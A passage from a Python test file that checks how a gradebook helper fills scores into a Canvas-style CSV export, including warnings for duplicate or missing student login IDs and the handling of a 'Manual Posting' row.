        "Student,ID,SIS Login ID,Section,Week 1 (9001)\r\nKim,501,mjkim,A,\r\nKim,501,mjkim,A,\r\n"
    )
    result = fill_lms_export(
        text, ROUND_SCORES, students=[MINJI, twin, blank], columns=[WEEK1, WEEK1]
    )
    assert rows_of(result.text)[1:] == [["Kim", "501", "mjkim", "A", "9.5"]] * 2
    assert result.warnings == (
        "student 'Twin': SIS Login ID 'MJKIM' is not unique here",
        "student 'Blank': no SIS Login ID here; cannot match",
        "row 3: '김민지' appears twice; filled both",
    )


def test_canvas_round_trip_keeps_the_manual_posting_row():
    # CANVAS_EXPORTER writes a row of "Manual Posting" under manually posted assignments;
    # CANVAS_IMPORTER skips it. It is not a student row.
    text = (
        "Student,ID,SIS Login ID,Section,Week 1 (9001)\r\n"
        ",,,,Manual Posting\r\n"
        "    Points Possible,,,,10.00\r\n"
        "Kim,501,mjkim,A,\r\n"
    )
    result = fill_lms_export(text, ROUND_SCORES, students=[MINJI], columns=[WEEK1])
    assert result.text == text.replace("Kim,501,mjkim,A,\r\n", "Kim,501,mjkim,A,9.5\r\n")
    assert result.warnings == ()
